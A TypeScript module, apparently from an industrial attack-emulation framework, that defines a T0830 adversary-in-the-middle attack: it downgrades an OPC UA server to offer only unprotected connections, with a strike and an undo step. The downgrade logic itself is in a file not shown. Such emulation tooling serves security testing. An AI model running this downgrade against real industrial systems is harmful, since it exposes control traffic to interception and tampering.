// T0830 Adversary-in-the-Middle: clients of the OPC UA server are offered nothing but connections without any protection, as
// somebody between them and the server would do it to read and change what they say. Passwords alone stay encrypted.
import { z } from 'zod'
import type { Attack } from './attack.ts'
import { opcuaOf } from './opcua-client.ts'

const Parameters = z.strictObject({})

export const downgradeToNone = {
  name: 'downgrade-to-none',
  title: { zh: 'OPC UA 安全策略降级', en: 'OPC UA downgrade to None' },
  technique: 'T0830',
  needs: ['opcua'],
  parameters: Parameters,
  async aim(foothold) {
    const target = opcuaOf(foothold)
    return {
      ...{ tags: [], hosts: [], insistSeconds: 0 },
      strike: () => target.offerOnlyNone(true),
      undo: () => target.offerOnlyNone(false)
    }
  }
} satisfies Attack<typeof Parameters>
